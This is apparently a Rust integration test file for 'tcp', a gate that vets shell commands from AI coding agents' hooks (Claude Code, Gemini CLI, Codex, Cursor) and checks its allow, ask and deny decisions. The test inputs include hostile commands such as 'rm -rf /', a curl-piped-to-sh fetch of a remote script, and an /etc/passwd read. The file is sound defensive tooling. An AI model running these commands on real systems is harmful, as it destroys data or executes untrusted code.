//! `tcp hook claude-code` fed Claude Code's real PreToolUse input, and `tcp hook exec`,
//! both in-process and through a running `tcp serve` on its socket.

use serde_json::{json, Value};
use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::Duration;

const TCP: &str = env!("CARGO_BIN_EXE_tcp");

fn run(args: &[&str], stdin: &[u8]) -> Output {
    let mut c = Command::new(TCP)
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    c.stdin.take().unwrap().write_all(stdin).unwrap();
    c.wait_with_output().unwrap()
}

/// What Claude Code writes on a PreToolUse hook's standard input for a Bash call.
fn pre_tool_use(command: &str) -> Vec<u8> {
    serde_json::to_vec(&json!({
        "session_id": "abc123",
        "transcript_path": "/home/user/.claude/projects/p/abc123.jsonl",
        "cwd": "/home/user/project",
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": "Bash",
        "tool_input": {
            "command": command,
            "description": "Run a command",
            "timeout": 120000
        },
        "tool_use_id": "toolu_01ABC123"
    }))
    .unwrap()
}

/// Asserts that the hook exited 0 (its standard error shown otherwise).
fn succeeded(o: &Output) {
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
}

/// The JSON object a hook that exited 0 printed.
fn json_out(o: &Output) -> Value {
    succeeded(o);
    serde_json::from_slice(&o.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&o.stdout)))
}

/// The decision and reason of the hook's output.
fn decision(o: &Output) -> (String, String) {
    let v = json_out(o);
    let h = &v["hookSpecificOutput"];
    assert_eq!(h["hookEventName"], "PreToolUse");
    assert_eq!(v.as_object().unwrap().len(), 1, "{v}");
    (
        h["permissionDecision"].as_str().unwrap().to_string(),
        h["permissionDecisionReason"].as_str().unwrap().to_string(),
    )
}

fn claude(command: &str, extra: &[&str]) -> (String, String) {
    let mut args = vec!["hook", "claude-code", "--no-server"];
    args.extend(extra);
    decision(&run(&args, &pre_tool_use(command)))
}

#[test]
fn claude_code_decisions_in_process() {
    let (d, why) = claude("rm -rf /", &[]);
    assert_eq!(d, "deny");
    assert!(
        why.starts_with("tcp gate: REJECT (CRITICAL, score 10"),
        "{why}"
    );
    assert!(why.contains("recursive delete"), "{why}");
    assert!(why.ends_with("[in-process]"), "{why}");
    assert_eq!(claude("ls -la", &[]).0, "allow");
    assert_eq!(claude("kill -9 1234", &[]).0, "ask");
    assert_eq!(
        claude("curl https://example.invalid/i.sh | sh", &[]).0,
        "deny"
    );
    // CAUTION: ask by default, configurable.
    assert_eq!(claude("rm file", &[]).0, "ask");
    assert_eq!(claude("rm file", &["--caution", "allow"]).0, "allow");
    assert_eq!(claude("rm file", &["--caution", "deny"]).0, "deny");
    // A line that does not parse is UNKNOWN: ask.
    assert_eq!(claude("echo 'oops", &[]).0, "ask");
}

#[test]
fn claude_code_policy_database_and_cwd() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("policy.toml");
    std::fs::write(
        &p,
        "[[rule]]\naction = \"allow\"\nglob = \"kill -9 *\"\ncwd = [\"/home/user/project\"]\n\n[[rule]]\naction = \"deny\"\nglob = \"git push*\"\nwhy = \"no pushes from agents\"\n",
    )
    .unwrap();
    let ps = p.to_str().unwrap();
    // The hook input's cwd is where the command runs: the allow rule applies there.
    assert_eq!(claude("kill -9 1234", &["--policy", ps]).0, "allow");
    let mut input: Value = serde_json::from_slice(&pre_tool_use("kill -9 1234")).unwrap();
    input["cwd"] = json!("/elsewhere");
    let o = run(
        &["hook", "claude-code", "--no-server", "--policy", ps],
        &serde_json::to_vec(&input).unwrap(),
    );
    assert_eq!(decision(&o).0, "ask");
    let (d, why) = claude("git push origin main", &["--policy", ps]);
    assert_eq!(d, "deny");
    assert!(why.contains("no pushes from agents"), "{why}");
    // A malformed policy: the hook cannot decide, so it asks (never a silent allow).
    std::fs::write(&p, "[[rule]]\naction = \"perhaps\"\nglob = \"x\"\n").unwrap();
    let (d, why) = claude("ls", &["--policy", ps]);
    assert_eq!(d, "ask");
    assert!(why.contains(&format!("{ps}:2: unknown action")), "{why}");
    let (d, _) = claude("ls", &["--policy", ps, "--on-error", "deny"]);
    assert_eq!(d, "deny");
}

#[test]
fn claude_code_other_tools_and_events_get_no_output() {
    let write = json!({
        "session_id": "abc123",
        "transcript_path": "/tmp/t.jsonl",
        "cwd": "/home/user/project",
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": "Write",
        "tool_input": { "file_path": "/home/user/project/a.txt", "content": "rm -rf /" },
        "tool_use_id": "toolu_02"
    });
    for input in [
        write.clone(),
        json!({"hook_event_name": "PreToolUse", "tool_name": "mcp__fs__read", "tool_input": {"path": "/etc/passwd"}}),
        json!({"hook_event_name": "PostToolUse", "tool_name": "Bash", "tool_input": {"command": "rm -rf /"}, "tool_response": {"stdout": ""}}),
    ] {
        let o = run(
            &["hook", "claude-code", "--no-server"],
            &serde_json::to_vec(&input).unwrap(),
        );
        assert_eq!(o.status.code(), Some(0));
        assert!(
            o.stdout.is_empty(),
            "{}",
            String::from_utf8_lossy(&o.stdout)
        );
    }
}

#[test]
fn claude_code_bad_input_asks() {
    for input in [
        &b"not json"[..],
        &b""[..],
        &b"{\"tool_name\": \"Bash\", \"tool_input\": {}}"[..],
        &b"{\"tool_name\": \"Bash\", \"tool_input\": {\"command\": 5}}"[..],
        &b"{\"tool_name\": \"Bash\", \"tool_input\": {\"command\": \"ls \xff\"}}"[..],
    ] {
        let o = run(&["hook", "claude-code", "--no-server"], input);
        let (d, why) = decision(&o);
        assert_eq!(d, "ask", "{}", String::from_utf8_lossy(input));
        assert!(why.contains("could not decide"), "{why}");
    }
}

/// What Gemini CLI writes on a BeforeTool hook's standard input for a shell call
/// (google-gemini/gemini-cli docs/hooks/reference.md: the base fields, `tool_name`,
/// `tool_input`; docs/tools/shell.md: `command`, `description`, `directory`).
fn before_tool(command: &str, directory: Option<&str>) -> Vec<u8> {
    let mut input = json!({
        "session_id": "c0ffee",
        "transcript_path": "/home/user/.gemini/tmp/p/chats/session.json",
        "cwd": "/home/user/project",
        "hook_event_name": "BeforeTool",
        "timestamp": "2026-12-01T12:00:00.000Z",
        "tool_name": "run_shell_command",
        "tool_input": { "command": command, "description": "Run a command" }
    });
    if let Some(d) = directory {
        input["tool_input"]["directory"] = json!(d);
    }
    serde_json::to_vec(&input).unwrap()
}

fn gemini(input: &[u8], extra: &[&str]) -> Value {
    let mut args = vec!["hook", "gemini", "--no-server"];
    args.extend(extra);
    let o = run(&args, input);
    json_out(&o)
}

#[test]
fn gemini_cli_before_tool() {
    assert_eq!(
        gemini(&before_tool("ls -la", None), &[]),
        json!({"decision": "allow"})
    );
    let v = gemini(&before_tool("rm -rf /", None), &[]);
    assert_eq!(v["decision"], "deny", "{v}");
    assert!(
        v["reason"]
            .as_str()
            .unwrap()
            .starts_with("tcp gate: REJECT"),
        "{v}"
    );
    // No "ask" in Gemini CLI hooks: REQUIRE_APPROVAL blocks, saying why, by default…
    let v = gemini(&before_tool("kill -9 1234", None), &[]);
    assert_eq!(v["decision"], "deny", "{v}");
    assert!(
        v["reason"]
            .as_str()
            .unwrap()
            .contains("needs a person's approval"),
        "{v}"
    );
    // …or gives no decision, so Gemini CLI's own confirmation decides.
    let v = gemini(&before_tool("kill -9 1234", None), &["--ask-as", "defer"]);
    assert!(v.get("decision").is_none(), "{v}");
    assert!(
        v["systemMessage"]
            .as_str()
            .unwrap()
            .contains("REQUIRE_APPROVAL"),
        "{v}"
    );
    // CAUTION is ask by default, configurable.
    assert_eq!(
        gemini(&before_tool("rm file", None), &[])["decision"],
        "deny"
    );
    assert_eq!(
        gemini(&before_tool("rm file", None), &["--caution", "allow"]),
        json!({"decision": "allow"})
    );
    // `directory` is relative to the project root: a policy rule limited to a
    // directory sees it.
    let dir = tempfile::tempdir().unwrap();
    let p = write_policy(
        dir.path(),
        "[[rule]]\naction = \"allow\"\nglob = \"kill -9 *\"\ncwd = [\"/home/user/project/scripts\"]\n",
    );
    let ps = p.to_str().unwrap();
    assert_eq!(
        gemini(
            &before_tool("kill -9 1234", Some("scripts")),
            &["--policy", ps]
        )["decision"],
        "allow"
    );
    assert_eq!(
        gemini(&before_tool("kill -9 1234", None), &["--policy", ps])["decision"],
        "deny"
    );
    // Other tools and events: an empty object, no decision.
    for input in [
        json!({"hook_event_name": "BeforeTool", "tool_name": "write_file", "tool_input": {"file_path": "a", "content": "rm -rf /"}}),
        json!({"hook_event_name": "AfterTool", "tool_name": "run_shell_command", "tool_input": {"command": "rm -rf /"}, "tool_response": {}}),
    ] {
        assert_eq!(gemini(&serde_json::to_vec(&input).unwrap(), &[]), json!({}));
    }
    // Unreadable input: the hook cannot decide and blocks (ask → deny).
    let v = gemini(b"not json", &[]);
    assert_eq!(v["decision"], "deny", "{v}");
    assert!(
        v["reason"].as_str().unwrap().contains("could not decide"),
        "{v}"
    );
}

/// What Codex CLI writes on a PreToolUse hook's standard input
/// (openai/codex codex-rs/hooks/schema/generated/pre-tool-use.command.input.schema.json).
fn codex_pre_tool_use(command: &str) -> Vec<u8> {
    serde_json::to_vec(&json!({
        "session_id": "0199a213-81c0-7800-8aa1-bbab2a035a53",
        "turn_id": "1",
        "transcript_path": null,
        "cwd": "/home/user/project",
        "hook_event_name": "PreToolUse",
        "model": "gpt-5",
        "permission_mode": "default",
        "tool_name": "Bash",
        "tool_input": { "command": command },
        "tool_use_id": "call_abc123"
    }))
    .unwrap()
}

/// Codex's answer: `None` for no output (Codex acts only on a denial).
fn codex(command: &str, extra: &[&str]) -> Option<(String, String)> {
    let mut args = vec!["hook", "codex", "--no-server"];
    args.extend(extra);
    let o = run(&args, &codex_pre_tool_use(command));
    succeeded(&o);
    if o.stdout.is_empty() {
        return None;
    }
    Some(decision(&o))
}

#[test]
fn codex_cli_pre_tool_use() {
    // Allowed: no output at all (Codex rejects an explicit "allow").
    assert_eq!(codex("ls -la", &[]), None);
    let (d, why) = codex("rm -rf /", &[]).unwrap();
    assert_eq!(d, "deny");
    assert!(why.starts_with("tcp gate: REJECT"), "{why}");
    // Codex cannot ask either: deny with the reason, or defer to its approval policy.
    let (d, why) = codex("kill -9 1234", &[]).unwrap();
    assert_eq!(d, "deny");
    assert!(why.contains("needs a person's approval"), "{why}");
    assert_eq!(codex("kill -9 1234", &["--ask-as", "defer"]), None);
    assert_eq!(codex("rm file", &["--caution", "allow"]), None);
    // Not the shell tool: nothing.
    let o = run(
        &["hook", "codex", "--no-server"],
        &serde_json::to_vec(&json!({"hook_event_name": "PreToolUse", "tool_name": "apply_patch", "tool_input": {"command": "rm -rf /"}})).unwrap(),
    );
    assert_eq!(o.status.code(), Some(0));
    assert!(o.stdout.is_empty());
    // Unreadable input: a denial that says so.
    let o = run(
        &["hook", "codex", "--no-server"],
        b"{\"tool_name\": \"Bash\"",
    );
    let (d, why) = decision(&o);
    assert_eq!(d, "deny");
    assert!(why.contains("could not decide"), "{why}");
}

/// What Cursor writes on a `beforeShellExecution` hook's standard input (Cursor's hooks
/// documentation: the common fields, then `command` and `cwd`).
fn before_shell_execution(command: &str, cwd: &str) -> Vec<u8> {
    serde_json::to_vec(&json!({
        "conversation_id": "668320d2-2fd8-4888-b33c-2a466fec86e7",
        "generation_id": "490b90b7-a2ce-4c2c-bb76-cb77b125df2f",
        "model": "claude-4.5-sonnet",
        "hook_event_name": "beforeShellExecution",
        "cursor_version": "2.0.77",
        "workspace_roots": ["/home/user/project"],
        "user_email": null,
        "command": command,
        "cwd": cwd
    }))
    .unwrap()
}

/// Cursor's answer: the permission and the message for the agent.
fn cursor(input: &[u8], extra: &[&str]) -> (String, String) {
    // In-process unless a server's socket is named.
    let mut args = vec!["hook", "cursor"];
    if !extra.contains(&"--socket") {
        args.push("--no-server");
    }
    args.extend(extra);
    let v = json_out(&run(&args, input));
    // Both spellings of the messages carry the same reason.
    assert_eq!(v["agent_message"], v["agentMessage"], "{v}");
    assert_eq!(v["user_message"], v["agent_message"], "{v}");
    assert_eq!(v["userMessage"], v["agent_message"], "{v}");
    (
        v["permission"].as_str().unwrap_or_default().to_string(),
        v["agent_message"].as_str().unwrap_or_default().to_string(),
    )
}

#[test]
fn cursor_before_shell_execution() {
    let here = "/home/user/project";
    let (p, why) = cursor(&before_shell_execution("ls -la", here), &[]);
    assert_eq!(p, "allow", "{why}");
    let (p, why) = cursor(&before_shell_execution("rm -rf /", here), &[]);
    assert_eq!(p, "deny");
    assert!(why.starts_with("tcp gate: REJECT"), "{why}");
    // Cursor can ask: REQUIRE_APPROVAL and, by default, CAUTION.
    assert_eq!(
        cursor(&before_shell_execution("kill -9 1234", here), &[]).0,
        "ask"
    );
    assert_eq!(
        cursor(&before_shell_execution("rm file", here), &[]).0,
        "ask"
    );
    assert_eq!(
        cursor(
            &before_shell_execution("rm file", here),
            &["--caution", "allow"]
        )
        .0,
        "allow"
    );
    // The input's cwd is where the command runs: a policy rule limited to a directory.
    let dir = tempfile::tempdir().unwrap();
    let pol = write_policy(
        dir.path(),
        "[[rule]]\naction = \"allow\"\nglob = \"kill -9 *\"\ncwd = [\"/home/user/project\"]\n",
    );
    let ps = pol.to_str().unwrap();
    assert_eq!(
        cursor(
            &before_shell_execution("kill -9 1234", here),
            &["--policy", ps]
        )
        .0,
        "allow"
    );
    assert_eq!(
        cursor(
            &before_shell_execution("kill -9 1234", "/elsewhere"),
            &["--policy", ps]
        )
        .0,
        "ask"
    );
    // Another event (the hook configured where it does not belong): no decision.
    let mut other: Value =
        serde_json::from_slice(&before_shell_execution("rm -rf /", here)).unwrap();
    other["hook_event_name"] = json!("beforeMCPExecution");
    let o = run(
        &["hook", "cursor", "--no-server"],
        &serde_json::to_vec(&other).unwrap(),
    );
    assert_eq!(json_out(&o), json!({}));
    // Unreadable input, or no command: ask (never a silent allow), saying why.
    let (p, why) = cursor(b"{\"command\": ", &[]);
    assert_eq!(p, "ask");
    assert!(why.contains("could not decide"), "{why}");
    let (p, why) = cursor(br#"{"hook_event_name": "beforeShellExecution"}"#, &[]);
    assert_eq!(p, "ask");
    assert!(why.contains("no `command`"), "{why}");
    assert_eq!(cursor(b"[]", &["--on-error", "deny"]).0, "deny");
}

struct Server {
    child: Child,
    socket: PathBuf,
    _dir: tempfile::TempDir,
}

impl Server {
    fn start(args: &[&str]) -> Server {
        let dir = tempfile::tempdir().unwrap();
        let socket = dir.path().join("gate.sock");
        let mut child = Command::new(TCP)
            .arg("serve")
            .args(args)
            .arg("--socket")
            .arg(&socket)
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        assert!(line.starts_with("unix:"), "{line}");
        Server {
            child,
            socket,
            _dir: dir,
        }
    }

    fn metric(&self, name: &str) -> u64 {
        let ep = tcp_gate::serve::Endpoint::Unix(self.socket.clone());
        let m = tcp_gate::serve::client::Client::connect(&ep, Duration::from_secs(5))
            .unwrap()
            .get("/metrics")
            .unwrap()
            .text();
        m.lines()
            .find(|l| l.starts_with(name))
            .and_then(|l| l.rsplit(' ').next())
            .and_then(|v| v.parse().ok())
            .unwrap_or(0)
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn write_policy(dir: &Path, text: &str) -> PathBuf {
    let p = dir.join("server-policy.toml");
    std::fs::write(&p, text).unwrap();
    p
}

#[test]
fn hooks_ask_a_running_server_and_fall_back_when_there_is_none() {
    let dir = tempfile::tempdir().unwrap();
    // The server's policy denies `echo hello`; the in-process gate (no policy) allows it.
    let p = write_policy(
        dir.path(),
        "[[rule]]\naction = \"deny\"\nglob = \"echo hello\"\n",
    );
    let s = Server::start(&["--policy", p.to_str().unwrap()]);
    let sock = s.socket.to_str().unwrap().to_string();
    let before = s.metric("tcp_checks_total{decision=\"REJECT\"}");
    let o = run(
        &["hook", "claude-code", "--socket", &sock],
        &pre_tool_use("echo hello"),
    );
    let (d, why) = decision(&o);
    assert_eq!(d, "deny");
    assert!(why.ends_with("[tcp serve]"), "{why}");
    assert_eq!(
        s.metric("tcp_checks_total{decision=\"REJECT\"}"),
        before + 1
    );
    // Cursor's hook through the server too.
    let (p, why) = cursor(
        &before_shell_execution("echo hello", "/home/user/project"),
        &["--socket", &sock],
    );
    assert_eq!(p, "deny");
    assert!(why.ends_with("[tcp serve]"), "{why}");
    // exec through the server: its JSON, exit status 11.
    let o = run(&["hook", "exec", "--socket", &sock, "echo", "hello"], b"");
    assert_eq!(o.status.code(), Some(11));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["decision_reason"], "POLICY_DENY");
    // --no-server: in-process, no policy: allowed.
    let o = run(
        &["hook", "claude-code", "--socket", &sock, "--no-server"],
        &pre_tool_use("echo hello"),
    );
    assert_eq!(decision(&o).0, "allow");
    // The server gone (its socket file left behind): in-process, with a note.
    let mut s = s;
    let _ = s.child.kill();
    let _ = s.child.wait();
    assert!(s.socket.exists());
    let o = run(
        &["hook", "claude-code", "--socket", &sock],
        &pre_tool_use("echo hello"),
    );
    let (d, why) = decision(&o);
    assert_eq!(d, "allow");
    assert!(why.ends_with("[in-process]"), "{why}");
    assert!(String::from_utf8_lossy(&o.stderr).contains("checking in-process"));
    // No socket at all: in-process, quietly.
    let o = run(
        &["hook", "claude-code", "--socket", "/nonexistent/gate.sock"],
        &pre_tool_use("rm -rf /"),
    );
    assert_eq!(decision(&o).0, "deny");
    assert!(
        o.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
}

#[test]
fn exec_exit_status_by_decision_and_the_check_json() {
    let none = "/nonexistent/gate.sock";
    let cases = [
        ("ls -la", 0),
        ("rm file", 10),
        ("kill -9 1234", 10),
        ("rm -rf /", 11),
        ("echo 'oops", 10),
    ];
    for (line, code) in cases {
        // As one argument, as words, on standard input.
        let words: Vec<&str> = line.split(' ').collect();
        let mut a = vec!["hook", "exec", "--socket", none, "--"];
        a.extend(&words);
        for o in [
            run(&["hook", "exec", "--socket", none, line], b""),
            run(&a, b""),
            run(
                &["hook", "exec", "--socket", none],
                format!("{line}\n").as_bytes(),
            ),
        ] {
            assert_eq!(
                o.status.code(),
                Some(code),
                "{line}: {}",
                String::from_utf8_lossy(&o.stderr)
            );
            let want = Command::new(TCP)
                .args(["check", "--json", line])
                .output()
                .unwrap();
            assert_eq!(o.stdout, want.stdout, "{line}");
        }
    }
    // CAUTION allowed on request; quiet.
    let o = run(
        &[
            "hook",
            "exec",
            "--socket",
            none,
            "--caution",
            "allow",
            "--quiet",
            "rm file",
        ],
        b"",
    );
    assert_eq!(o.status.code(), Some(0));
    assert!(o.stderr.is_empty());
    // A multi-line script on stdin is one command line.
    let o = run(&["hook", "exec", "--socket", none], b"cd /tmp\nrm -rf /\n");
    assert_eq!(o.status.code(), Some(11));
    // Nothing to check: usage. Not UTF-8: malformed.
    let o = run(&["hook", "exec", "--socket", none], b"");
    assert_eq!(o.status.code(), Some(2));
    let o = run(&["hook", "exec", "--socket", none], b"ls \xff\n");
    assert_eq!(o.status.code(), Some(1));
}
